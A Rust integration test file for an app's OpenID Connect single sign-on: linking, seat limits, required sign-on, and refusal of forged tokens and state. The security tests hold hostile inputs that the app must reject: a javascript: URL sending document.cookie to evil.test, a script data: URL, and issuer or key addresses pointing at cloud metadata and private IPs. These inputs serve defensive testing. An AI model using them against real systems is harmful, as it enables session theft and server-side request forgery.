//! Single sign-on against a real OpenID provider (panva's oidc-provider, started by the
//! test on loopback from `end2end/oidc/provider.mjs`): set-up with "Test connection",
//! just-in-time membership, linking, seats, and the tampered answers a relying party
//! must refuse.

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};

use crate::common::*;
use app::orgs::api::{GetOrgOverview, GetOrgSettings};
use app::sso::api::{RequireSso, SaveSso};
use reqwest::header::LOCATION;
use sqlx::PgPool;

const ACME: [(&str, &str); 2] = [("region", "eu-central-1"), ("short_name", "acme")];
const CLIENT_ID: &str = "muster";
const CLIENT_SECRET: &str = "muster-test-secret";
const PROVIDER_PASSWORD: &str = "provider password";

/// The test provider, stopped when dropped.
pub(crate) struct Provider {
    child: Child,
    issuer: String,
}

impl Drop for Provider {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

pub(crate) fn start_provider(app: &TestApp) -> Provider {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../end2end/oidc/provider.mjs");
    let mut child = Command::new("node")
        .arg(script)
        .env("OIDC_REDIRECT_URIS", format!("{}/sso/callback", app.base))
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("node runs the test provider (./muster test installs its packages)");
    let mut line = String::new();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    out.read_line(&mut line).unwrap();
    // Whatever it says later is read (and dropped), so it never writes to a closed pipe.
    std::thread::spawn(move || std::io::copy(&mut out, &mut std::io::sink()));
    let issuer = line
        .trim()
        .strip_prefix("ISSUER ")
        .unwrap_or_else(|| panic!("the provider says where it is: {line:?}"))
        .to_owned();
    Provider { child, issuer }
}

/// Acme (OWNER it@acme.test) with acme.test verified, and single sign-on set up.
pub(crate) async fn acme_with_sso(app: &TestApp, provider: &Provider) -> reqwest::Client {
    let owner = org(app, "Acme", "it@acme.test", &[]).await;
    verify_domain(app, "acme.test").await;
    ok(save_sso(app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
    owner
}

/// A domain verified for Acme (the DNS side is the domains tests' subject).
async fn verify_domain(app: &TestApp, domain: &str) {
    sqlx::query(
        "INSERT INTO org_domains (org_id, domain, token, verified_at)
         SELECT id, $1, 'test', now() FROM organizations WHERE short_name = 'acme'",
    )
    .bind(domain)
    .execute(&app.pool)
    .await
    .unwrap();
}

async fn save_sso(
    app: &TestApp,
    owner: &reqwest::Client,
    issuer: &str,
    secret: &str,
    intent: &str,
) -> Reply<serde_json::Value> {
    let mut form = ACME.to_vec();
    form.extend([
        ("issuer", issuer),
        ("client_id", CLIENT_ID),
        ("client_secret", secret),
        ("intent", intent),
    ]);
    app.call::<SaveSso>(owner, &form).await
}

pub(crate) fn location(res: &reqwest::Response) -> String {
    res.headers()
        .get(LOCATION)
        .map(|l| l.to_str().unwrap().to_owned())
        .unwrap_or_default()
}

fn absolute(app: &TestApp, to: &str) -> String {
    if to.starts_with('/') {
        format!("{}{to}", app.local)
    } else {
        to.to_owned()
    }
}

/// Follows a sign-in from `/sso/start` through the provider (signing in there as `who`)
/// back to Muster's callback; `tamper` may change the callback's address first. Returns
/// where Muster's callback sends the browser.
pub(crate) async fn sign_in_via(
    app: &TestApp,
    c: &reqwest::Client,
    email: &str,
    who: &str,
    tamper: impl Fn(String) -> String,
) -> String {
    let back = callback_answer(app, c, email, who, tamper).await;
    assert_eq!(back.status(), 303);
    location(&back)
}

/// `sign_in_via`, up to the callback's answer itself.
async fn callback_answer(
    app: &TestApp,
    c: &reqwest::Client,
    email: &str,
    who: &str,
    tamper: impl Fn(String) -> String,
) -> reqwest::Response {
    let start = c
        .get(app.url(&format!("/sso/start?email={email}")))
        .send()
        .await
        .unwrap();
    // A page that moves on to the provider by itself (forms may not redirect off-site).
    assert_eq!(start.status(), 200, "sent to the provider");
    let page = start.text().await.unwrap();
    let mut to = page
        .split_once("content=\"0;url=")
        .and_then(|(_, rest)| rest.split_once('"'))
        .map(|(url, _)| url.replace("&amp;", "&"))
        .unwrap_or_else(|| panic!("the page names the provider: {page}"));
    assert!(
        page.contains(&format!("<a href=\"{}", to.replace('&', "&amp;"))),
        "{page}"
    );
    for _ in 0..10 {
        if to.contains("/sso/callback") {
            return c.get(absolute(app, &tamper(to))).send().await.unwrap();
        }
        let res = if to.contains("/interaction/") {
            // The provider's sign-in page, then its form.
            let page = c.get(&to).send().await.unwrap();
            assert_eq!(page.status(), 200);
            c.post(&to)
                .form(&[("email", who), ("password", PROVIDER_PASSWORD)])
                .send()
                .await
                .unwrap()
        } else {
            c.get(&to).send().await.unwrap()
        };
        assert!(res.status().is_redirection(), "{to}: {}", res.status());
        let next = location(&res);
        to = if next.starts_with('/') && !next.starts_with("/o/") && !next.starts_with("/signin") {
            // The provider's own relative redirects.
            let origin: String = to.split('/').take(3).collect::<Vec<_>>().join("/");
            format!("{origin}{next}")
        } else {
            next
        };
    }
    panic!("the sign-in never came back: {to}");
}

/// The holder of `email` opens the mailed "link your account" link in `c` and confirms;
/// returns where Muster sends the browser then.
pub(crate) async fn link_by_mail(app: &TestApp, c: &reqwest::Client, email: &str) -> String {
    let mail = mail_with_subject(app, email, "sign-in to your Muster account").await;
    let link = link_in(&mail);
    let page = c.get(&link).send().await.unwrap();
    assert_eq!(page.status(), 200);
    let html = page.text().await.unwrap();
    assert!(html.contains("Link and sign in"), "{html}");
    let res = c
        .post(app.url("/sso/link"))
        .form(&[("token", token_of(&link))])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    location(&res)
}

#[sqlx::test(migrations = false)]
async fn a_new_person_at_a_verified_domain_signs_in_through_the_provider_and_joins(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = org(&app, "Acme", "it@acme.test", &[]).await;
    verify_domain(&app, "acme.test").await;

    // "Test connection" says what is wrong, in words, on the field to fix.
    let wrong = save_sso(&app, &owner, &provider.issuer, "not the secret", "test").await;
    assert_eq!(wrong.status, 422);
    assert_eq!(
        field_keys(&wrong.result.unwrap_err()),
        [(
            "client_secret".to_owned(),
            "errors.sso_client_refused".to_owned()
        )]
    );
    let nowhere = save_sso(&app, &owner, "http://127.0.0.1:9", CLIENT_SECRET, "test").await;
    assert_eq!(
        field_keys(&nowhere.result.unwrap_err()),
        [("issuer".to_owned(), "errors.sso_unreachable".to_owned())]
    );
    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "test").await).await;
    assert_eq!(
        app.count("SELECT count(*) FROM org_sso").await,
        0,
        "a test saves nothing"
    );
    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
    let sso = ok(app.call::<GetOrgSettings>(&owner, &ACME).await).await["sso"].clone();
    assert_eq!(sso["issuer"], provider.issuer.as_str());
    assert_eq!(sso["client_id"], CLIENT_ID);
    assert!(
        !sso.to_string().contains(CLIENT_SECRET),
        "never shown again"
    );
    let sealed: Vec<u8> = sqlx::query_scalar("SELECT client_secret_sealed FROM org_sso")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert!(
        !sealed
            .windows(CLIENT_SECRET.len())
            .any(|w| w == CLIENT_SECRET.as_bytes()),
        "sealed at rest"
    );

    // Home-realm discovery: another address goes on to the password step.
    let elsewhere = new_client()
        .get(app.url("/sso/start?email=bo@elsewhere.test"))
        .send()
        .await
        .unwrap();
    assert_eq!(location(&elsewhere), "/signin?email=bo%40elsewhere.test");
    // "Use my password" goes to the password step, even for an address of Acme.
    let password = new_client()
        .get(app.url("/sso/start?email=it@acme.test&password=1"))
        .send()
        .await
        .unwrap();
    assert_eq!(location(&password), "/signin?email=it%40acme.test");

    // Someone new at acme.test signs in through the provider and is a member at once.
    let ann = new_client();
    let to = sign_in_via(&app, &ann, "ann@acme.test", "ann@acme.test", |u| u).await;
    assert_eq!(to, "/o/eu-central-1/acme");
    assert_eq!(
        signed_in_as(&app, &ann).await.as_deref(),
        Some("ann@acme.test")
    );
    let overview = ok(app.call::<GetOrgOverview>(&ann, &ACME).await).await;
    assert_eq!(overview["my_role"], "VIEWER");
    let welcome = mail_with_subject(&app, "ann@acme.test", "Welcome to Acme").await;
    assert!(welcome.text.contains("single sign-on"), "{}", welcome.text);
    let audit = audit_actions(&app, &owner).await;
    assert!(audit.contains(&"person_joined".to_owned()), "{audit:?}");
    assert!(audit.contains(&"sso_changed".to_owned()), "{audit:?}");

    // The next time, the same account; no second welcome.
    let again = new_client();
    sign_in_via(&app, &again, "ann@acme.test", "ann@acme.test", |u| u).await;
    assert_eq!(
        signed_in_as(&app, &again).await.as_deref(),
        Some("ann@acme.test")
    );
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE email = 'ann@acme.test'")
            .await,
        1
    );
    assert_eq!(app.mailbox.to("ann@acme.test").len(), 1);
}

#[sqlx::test(migrations = false)]
async fn tampered_state_nonce_issuer_audience_and_signature_are_refused(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    acme_with_sso(&app, &provider).await;
    let refused = |to: &str, problem: &str| {
        assert_eq!(to, format!("/signin?sso={problem}"));
    };
    // Another state than the one this browser started with.
    let c = new_client();
    let to = sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| {
        let (head, state) = u.split_once("state=").unwrap();
        let rest = state
            .split_once('&')
            .map(|(_, r)| format!("&{r}"))
            .unwrap_or_default();
        format!("{head}state=forged{rest}")
    })
    .await;
    refused(&to, "state");
    assert_eq!(signed_in_as(&app, &c).await, None);
    // The provider's answer brought to another browser (no sign-in of its own there).
    let c = new_client();
    let stolen = std::sync::Mutex::new(String::new());
    sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| {
        *stolen.lock().unwrap() = u;
        "/sso/callback?state=x&code=y".to_owned()
    })
    .await;
    let other = new_client();
    let stolen = absolute(&app, &stolen.lock().unwrap());
    let res = other.get(stolen).send().await.unwrap();
    refused(&location(&res), "state");
    assert_eq!(signed_in_as(&app, &other).await, None);
    // ID tokens signed by the provider's key with a wrong claim, or by another key.
    for who in [
        "tamper-issuer@acme.test",
        "tamper-audience@acme.test",
        "tamper-nonce@acme.test",
        "tamper-signature@acme.test",
    ] {
        let c = new_client();
        let to = sign_in_via(&app, &c, who, who, |u| u).await;
        refused(&to, "token");
        assert_eq!(signed_in_as(&app, &c).await, None, "{who}");
    }
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE email LIKE 'tamper-%'")
            .await,
        0,
        "no account from a forged token"
    );
}

#[sqlx::test(migrations = false)]
async fn an_unverified_domain_or_address_gives_no_membership_and_links_nothing(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    acme_with_sso(&app, &provider).await;
    // beta.test was added, not verified.
    sqlx::query(
        "INSERT INTO org_domains (org_id, domain, token)
         SELECT id, 'beta.test', 'test' FROM organizations WHERE short_name = 'acme'",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let c = new_client();
    let to = sign_in_via(&app, &c, "ann@acme.test", "bo@beta.test", |u| u).await;
    assert_eq!(to, "/signin?sso=domain");
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE email = 'bo@beta.test'")
            .await,
        0
    );
    assert_eq!(
        app.count("SELECT count(*) FROM people WHERE email = 'bo@beta.test'")
            .await,
        0
    );

    // An account of its own at acme.test is linked only by an address the provider
    // verified.
    verified_user(&app, "unverified.cy@acme.test").await;
    let c = new_client();
    let to = sign_in_via(
        &app,
        &c,
        "unverified.cy@acme.test",
        "unverified.cy@acme.test",
        |u| u,
    )
    .await;
    assert_eq!(to, "/signin?sso=unverified");
    assert_eq!(signed_in_as(&app, &c).await, None);
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
    verified_user(&app, "dee@acme.test").await;
    let c = new_client();
    let to = sign_in_via(&app, &c, "dee@acme.test", "dee@acme.test", |u| u).await;
    assert_eq!(
        to, "/signin?sso=confirm_link",
        "her account is hers to link"
    );
    assert_eq!(signed_in_as(&app, &c).await, None);
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
    let to = link_by_mail(&app, &c, "dee@acme.test").await;
    assert_eq!(to, "/o/eu-central-1/acme");
    assert_eq!(
        signed_in_as(&app, &c).await.as_deref(),
        Some("dee@acme.test")
    );
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 1);
    // Dee keeps her password.
    let c = new_client();
    assert_eq!(sign_in_to(&app, &c, "dee@acme.test", PASSWORD).await, "/");
}

#[sqlx::test(migrations = false)]
async fn just_in_time_membership_respects_the_plans_seats(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = acme_with_sso(&app, &provider).await;
    sqlx::query("UPDATE organizations SET seats = 1")
        .execute(&app.pool)
        .await
        .unwrap();
    let c = new_client();
    let to = sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| u).await;
    assert_eq!(to, "/signin?sso=seats");
    assert_eq!(
        app.count("SELECT count(*) FROM people WHERE email = 'ann@acme.test'")
            .await,
        0
    );
    assert_eq!(signed_in_as(&app, &c).await, None);
    // "Require single sign-on" is there once it is set up, and audited.
    let mut form = ACME.to_vec();
    form.push(("required", "on"));
    ok(app.call::<RequireSso>(&owner, &form).await).await;
    assert_eq!(
        app.count("SELECT count(*) FROM org_sso WHERE required")
            .await,
        1
    );
}

#[sqlx::test(migrations = false)]
async fn require_sso_sends_members_to_the_provider_and_keeps_owners_a_password_way_in(
    pool: PgPool,
) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = org(
        &app,
        "Acme",
        "it@acme.test",
        &[
            ("dana@acme.test", "EDITOR"),
            ("eve@elsewhere.test", "VIEWER"),
        ],
    )
    .await;
    verify_domain(&app, "acme.test").await;
    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
    let dana = accept(&app, "dana@acme.test").await;
    let eve = accept(&app, "eve@elsewhere.test").await;
    assert_eq!(app.call::<GetOrgOverview>(&dana, &ACME).await.status, 200);

    let mut form = ACME.to_vec();
    form.push(("required", "on"));
    ok(app.call::<RequireSso>(&owner, &form).await).await;

    // Dana's session from before did not come through the provider: Acme asks for it.
    let refused = app.call::<GetOrgOverview>(&dana, &ACME).await;
    assert_eq!(refused.status, 403);
    assert!(
        matches!(refused.result, Err(app::error::AppError::SsoRequired { ref email, .. }) if email == "dana@acme.test")
    );
    // Her password sign-in goes on to the provider instead of opening a session.
    let laptop = new_client();
    let to = sign_in_to(&app, &laptop, "dana@acme.test", PASSWORD).await;
    assert_eq!(to, "/sso/start?email=dana%40acme.test");
    assert_eq!(signed_in_as(&app, &laptop).await, None);
    let to = sign_in_via(&app, &laptop, "dana@acme.test", "dana@acme.test", |u| u).await;
    assert_eq!(
        to, "/signin?sso=confirm_link",
        "her account is hers to link"
    );
    let to = link_by_mail(&app, &laptop, "dana@acme.test").await;
    assert_eq!(to, "/o/eu-central-1/acme");
    let overview = ok(app.call::<GetOrgOverview>(&laptop, &ACME).await).await;
    assert_eq!(overview["my_role"], "EDITOR", "the role an admin gave her");

    // The OWNER keeps a password way in, and so does an address on another domain.
    let desk = new_client();
    assert_eq!(sign_in_to(&app, &desk, "it@acme.test", PASSWORD).await, "/");
    assert_eq!(app.call::<GetOrgOverview>(&desk, &ACME).await.status, 200);
    assert_eq!(app.call::<GetOrgOverview>(&eve, &ACME).await.status, 200);

    // Turned off, passwords work for everyone again.
    // (An unchecked box sends nothing.)
    ok(app.call::<RequireSso>(&owner, &ACME).await).await;
    assert_eq!(app.call::<GetOrgOverview>(&dana, &ACME).await.status, 200);
}

// The third review: an organization's provider is a stranger to everyone else.

/// Makes the test provider's discovery document say `overrides` from now on.
async fn misbehave(provider: &Provider, overrides: serde_json::Value) {
    let res = reqwest::Client::new()
        .post(format!("{}/__test/discovery", provider.issuer))
        .json(&overrides)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 204);
}

/// The port of the test provider (it also answers at `localhost`).
fn port_of(provider: &Provider) -> &str {
    provider.issuer.rsplit(':').next().unwrap()
}

#[sqlx::test(migrations = false)]
async fn h1_a_sign_in_page_that_is_a_script_or_another_site_is_never_written_into_a_muster_page(
    pool: PgPool,
) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = acme_with_sso(&app, &provider).await;
    // After saving, the organization's provider names a script as its sign-in page.
    let hostile = [
        "javascript:fetch('https://evil.test/?'+document.cookie)".to_owned(),
        "data:text/html,<script>alert(1)</script>".to_owned(),
        "https://evil.test/authorize".to_owned(),
        format!("http://localhost:{}/auth", port_of(&provider)),
    ];
    for page in &hostile {
        misbehave(
            &provider,
            serde_json::json!({ "authorization_endpoint": page }),
        )
        .await;
        let res = new_client()
            .get(app.url("/sso/start?email=victim%40acme.test"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303, "{page}");
        assert_eq!(location(&res), "/signin?sso=provider", "{page}");
        let body = res.text().await.unwrap();
        assert!(!body.contains("evil") && !body.contains("script"), "{body}");
        // "Test connection" names it, on the field that fixes it.
        let tested = save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "test").await;
        assert_eq!(
            field_keys(&tested.result.unwrap_err()),
            [(
                "sign_in_host".to_owned(),
                "errors.sso_sign_in_page".to_owned()
            )],
            "{page}"
        );
    }
    // An OWNER may confirm another host for the sign-in page (here the provider's own,
    // by another name): then, and only then, browsers are sent there.
    let mut form = ACME.to_vec();
    form.extend([
        ("issuer", provider.issuer.as_str()),
        ("client_id", CLIENT_ID),
        ("client_secret", CLIENT_SECRET),
        ("sign_in_host", "localhost"),
    ]);
    ok(app.call::<SaveSso>(&owner, &form).await).await;
    let res = new_client()
        .get(app.url("/sso/start?email=ann%40acme.test"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let body = res.text().await.unwrap();
    assert!(
        body.contains(&format!(
            "url=http://localhost:{}/auth?",
            port_of(&provider)
        )),
        "{body}"
    );
    // Still no script, whatever host is confirmed.
    misbehave(
        &provider,
        serde_json::json!({ "authorization_endpoint": "javascript://localhost/%0aalert(1)" }),
    )
    .await;
    let res = new_client()
        .get(app.url("/sso/start?email=ann%40acme.test"))
        .send()
        .await
        .unwrap();
    assert_eq!(location(&res), "/signin?sso=provider");
}

#[sqlx::test(migrations = false)]
async fn h1_every_answer_that_leptos_does_not_render_forbids_scripts(pool: PgPool) {
    let app = spawn_app_with_mailbox_page(pool).await;
    let provider = start_provider(&app);
    acme_with_sso(&app, &provider).await;
    let c = new_client();
    let routes = [
        "/sso/start?email=ann%40acme.test",
        "/sso/start?email=bo%40elsewhere.test",
        "/sso/callback?state=x&code=y",
        "/sso/link?token=nothing",
        "/healthz",
        "/readyz",
        "/metrics",
        "/events",
        "/texts/en.json",
        "/api/v1/openapi.json",
        "/api/v1/members",
        "/api/v1/nothing",
        "/scim/v2/Users",
        "/scim/v2/ServiceProviderConfig",
        "/api/no_such_function",
        "/dev/mailbox",
        "/favicon.svg",
        "/no-such-file.js",
    ];
    for route in routes {
        let res = c.get(app.url(route)).send().await.unwrap();
        let csp = res
            .headers()
            .get("content-security-policy")
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default();
        // Either no script at all, or a page Leptos rendered (a missing file's "not
        // found" page is one), whose scripts must carry its nonce.
        let no_script = csp.contains("default-src 'none'") && !csp.contains("script-src");
        let leptos_page = csp.contains("script-src 'self' 'nonce-")
            && !csp
                .split(';')
                .any(|d| d.trim().starts_with("script-src") && d.contains("unsafe-inline"));
        assert!(
            no_script || leptos_page,
            "{route} ({}): {csp:?}",
            res.status()
        );
    }
    // A Leptos page, by contrast, allows only its own scripts (by nonce).
    let page = c.get(app.url("/signin")).send().await.unwrap();
    assert!(!csp_nonce(page.headers()).is_empty());
}

#[sqlx::test(migrations = false)]
async fn m1_a_provider_cannot_take_over_an_account_that_has_the_address(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    // The victim is OWNER of an organization of their own, with an address at the
    // domain the attacker's organization verified.
    let victim = org(&app, "Victim Org", "victim@acme.test", &[]).await;
    acme_with_sso(&app, &provider).await;
    let attacker = new_client();
    let to = sign_in_via(
        &app,
        &attacker,
        "victim@acme.test",
        "victim@acme.test",
        |u| u,
    )
    .await;
    assert_eq!(to, "/signin?sso=confirm_link");
    assert_eq!(signed_in_as(&app, &attacker).await, None);
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
    assert_eq!(
        app.count("SELECT count(*) FROM people WHERE email = 'victim@acme.test'")
            .await,
        1,
        "no membership in Acme either"
    );
    // The mail goes to the account's holder; its link works only in the browser that
    // signed in at the provider, so the holder opening it elsewhere links nothing.
    let mail = mail_with_subject(&app, "victim@acme.test", "sign-in to your Muster account").await;
    assert!(mail.text.contains("Acme"), "{}", mail.text);
    let token = token_of(&link_in(&mail));
    let page = victim
        .get(app.url(&format!("/sso/link?token={token}")))
        .send()
        .await
        .unwrap();
    assert!(
        page.text().await.unwrap().contains("does not work"),
        "another browser is told the link does not work there"
    );
    let res = victim
        .post(app.url("/sso/link"))
        .form(&[("token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(location(&res), "/signin?sso=state");
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
    assert_eq!(
        signed_in_as(&app, &victim).await.as_deref(),
        Some("victim@acme.test"),
        "the holder's own session is untouched"
    );
    // A token that was never mailed does nothing in the attacker's browser either.
    let res = attacker
        .post(app.url("/sso/link"))
        .form(&[("token", "guessed")])
        .send()
        .await
        .unwrap();
    assert_eq!(location(&res), "/signin?sso=state");
    assert_eq!(signed_in_as(&app, &attacker).await, None);
}

#[sqlx::test(migrations = false)]
async fn m1_the_holder_links_their_account_in_the_browser_that_signed_in_and_is_told(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    acme_with_sso(&app, &provider).await;
    verified_user(&app, "dee@acme.test").await;
    let c = new_client();
    let to = sign_in_via(&app, &c, "dee@acme.test", "dee@acme.test", |u| u).await;
    assert_eq!(to, "/signin?sso=confirm_link");
    let mail = mail_with_subject(&app, "dee@acme.test", "sign-in to your Muster account").await;
    let token = token_of(&link_in(&mail));
    assert_eq!(
        link_by_mail(&app, &c, "dee@acme.test").await,
        "/o/eu-central-1/acme"
    );
    assert_eq!(
        signed_in_as(&app, &c).await.as_deref(),
        Some("dee@acme.test")
    );
    mail_with_subject(&app, "dee@acme.test", "now opens your Muster account").await;
    // Used once.
    let res = c
        .post(app.url("/sso/link"))
        .form(&[("token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(location(&res), "/signin?sso=state");
    // From now on the provider signs her in directly.
    let again = new_client();
    let to = sign_in_via(&app, &again, "dee@acme.test", "dee@acme.test", |u| u).await;
    assert_eq!(to, "/o/eu-central-1/acme");
}

#[sqlx::test(migrations = false)]
async fn m2_links_end_with_their_issuer_and_hold_only_for_addresses_on_verified_domains(
    pool: PgPool,
) {
    let app = spawn_app(pool).await;
    let first = start_provider(&app);
    let second = start_provider(&app);
    let owner = acme_with_sso(&app, &first).await;
    let c = new_client();
    sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| u).await;
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 1);
    // Another issuer: it speaks for nobody the first one linked.
    ok(save_sso(&app, &owner, &second.issuer, CLIENT_SECRET, "save").await).await;
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
    let c = new_client();
    let to = sign_in_via(&app, &c, "ann@acme.test", "ann@acme.test", |u| u).await;
    assert_eq!(
        to, "/signin?sso=confirm_link",
        "the new issuer's subject is not the old one's"
    );
    // Turned off, no link is left.
    link_by_mail(&app, &c, "ann@acme.test").await;
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 1);
    ok(app.call::<app::sso::api::RemoveSso>(&owner, &ACME).await).await;
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
    // A linked account whose own address left the verified domains is not signed in,
    // even if the provider still says the old address.
    ok(save_sso(&app, &owner, &second.issuer, CLIENT_SECRET, "save").await).await;
    let c = new_client();
    sign_in_via(&app, &c, "bea@acme.test", "bea@acme.test", |u| u).await;
    sqlx::query("UPDATE users SET email = 'bea@personal.test' WHERE email = 'bea@acme.test'")
        .execute(&app.pool)
        .await
        .unwrap();
    let c = new_client();
    let to = sign_in_via(&app, &c, "bea@acme.test", "bea@acme.test", |u| u).await;
    assert_eq!(to, "/signin?sso=domain");
    assert_eq!(signed_in_as(&app, &c).await, None);
}

#[sqlx::test(migrations = false)]
async fn m3_an_unverified_address_makes_no_account_and_claims_no_invitation(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = org(
        &app,
        "Acme",
        "it@acme.test",
        &[("unverified.adm@acme.test", "ADMIN")],
    )
    .await;
    verify_domain(&app, "acme.test").await;
    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
    let c = new_client();
    let who = "unverified.adm@acme.test";
    let to = sign_in_via(&app, &c, who, who, |u| u).await;
    assert_eq!(to, "/signin?sso=unverified");
    assert_eq!(signed_in_as(&app, &c).await, None);
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE email = 'unverified.adm@acme.test'")
            .await,
        0,
        "no account"
    );
    assert_eq!(
        app.count(
            "SELECT count(*) FROM people WHERE email = 'unverified.adm@acme.test' AND user_id IS NULL"
        )
        .await,
        1,
        "the invitation (and its role) is still unclaimed"
    );
    assert_eq!(app.count("SELECT count(*) FROM sso_identities").await, 0);
}

#[sqlx::test(migrations = false)]
async fn m4_api_keys_of_members_who_must_use_the_provider_stop_while_it_is_required(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = org(&app, "Acme", "it@acme.test", &[("dana@acme.test", "ADMIN")]).await;
    verify_domain(&app, "acme.test").await;
    ok(save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "save").await).await;
    let dana = accept(&app, "dana@acme.test").await;
    let danas = api_key(&app, &dana).await;
    let owners = api_key(&app, &owner).await;
    assert_eq!(members_status(&app, &danas).await, 200);
    let mut form = ACME.to_vec();
    form.push(("required", "on"));
    ok(app.call::<RequireSso>(&owner, &form).await).await;
    assert_eq!(
        members_status(&app, &danas).await,
        401,
        "Dana must use the provider"
    );
    assert_eq!(
        members_status(&app, &owners).await,
        200,
        "OWNERs are exempt"
    );
    ok(app.call::<RequireSso>(&owner, &ACME).await).await;
    assert_eq!(
        members_status(&app, &danas).await,
        200,
        "works again when not required"
    );
}

/// A REST API key for Acme, made by the person signed in on `c`.
async fn api_key(app: &TestApp, c: &reqwest::Client) -> String {
    let mut form = ACME.to_vec();
    form.extend([("name", "robot"), ("role", "VIEWER")]);
    ok(app.call::<app::api_keys::api::CreateApiKey>(c, &form).await).await["key"]
        .as_str()
        .unwrap()
        .to_owned()
}

async fn members_status(app: &TestApp, key: &str) -> u16 {
    rest(
        app,
        Some(key),
        reqwest::Method::GET,
        "/api/v1/members",
        None,
    )
    .await
    .0
}

#[sqlx::test(migrations = false)]
async fn m5_the_server_asks_only_the_internet_and_says_so_in_fixed_words(pool: PgPool) {
    let app = spawn_app(pool).await;
    let provider = start_provider(&app);
    let owner = acme_with_sso(&app, &provider).await;
    // An issuer at a metadata or private address is never asked.
    for issuer in [
        "http://169.254.169.254",
        "http://10.0.0.1",
        "http://[fd00:ec2::254]",
    ] {
        let tested = save_sso(&app, &owner, issuer, CLIENT_SECRET, "test").await;
        assert_eq!(
            field_keys(&tested.result.unwrap_err()),
            [(
                "issuer".to_owned(),
                "errors.sso_not_the_internet".to_owned()
            )],
            "{issuer}"
        );
    }
    // Nor are the addresses a discovery document names (its keys here).
    misbehave(
        &provider,
        serde_json::json!({ "jwks_uri": "http://169.254.169.254/latest/meta-data/jwks" }),
    )
    .await;
    let tested = save_sso(&app, &owner, &provider.issuer, CLIENT_SECRET, "test").await;
    let err = tested.result.unwrap_err();
    assert_eq!(
        field_keys(&err),
        [(
            "issuer".to_owned(),
            "errors.sso_not_the_internet".to_owned()
        )]
    );
    // The OWNER reads a fixed message, never the error chain.
    let text = format!("{err:?}");
    assert!(
        !text.contains("error sending request") && !text.contains("169.254"),
        "{text}"
    );
    // The saved secret goes only to the saved issuer with the saved client ID.
    misbehave(&provider, serde_json::json!({})).await;
    let mut form = ACME.to_vec();
    form.extend([
        ("issuer", "http://127.0.0.1:9"),
        ("client_id", CLIENT_ID),
        ("client_secret", ""),
        ("intent", "test"),
    ]);
    let tested = app.call::<SaveSso>(&owner, &form).await;
    assert_eq!(
        field_keys(&tested.result.unwrap_err()),
        [(
            "client_secret".to_owned(),
            "errors.sso_client_secret_required".to_owned()
        )]
    );
    // Every "Test connection" is audited.
    let tests = app
        .count(
            "SELECT count(*) FROM audit_events WHERE action = 'sso_changed' AND detail LIKE 'test %'",
        )
        .await;
    assert_eq!(tests, 4, "three addresses and the private keys");
}

#[sqlx::test(migrations = false)]
async fn m6_just_in_time_accounts_hash_nothing_and_are_limited_per_organization(pool: PgPool) {
    let options = Options {
        extra_args: vec!["--sso-new-accounts-per-hour".into(), "2".into()],
        ..Default::default()
    };
    let app = spawn_app_with(pool, options).await;
    let provider = start_provider(&app);
    acme_with_sso(&app, &provider).await;
    for who in ["ann@acme.test", "bo@acme.test"] {
        let c = new_client();
        assert_eq!(
            sign_in_via(&app, &c, who, who, |u| u).await,
            "/o/eu-central-1/acme"
        );
    }
    let c = new_client();
    let to = sign_in_via(&app, &c, "cy@acme.test", "cy@acme.test", |u| u).await;
    assert_eq!(to, "/signin?sso=too_many");
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE email = 'cy@acme.test'")
            .await,
        0
    );
    // No password hash at all, and no password opens the account.
    assert_eq!(
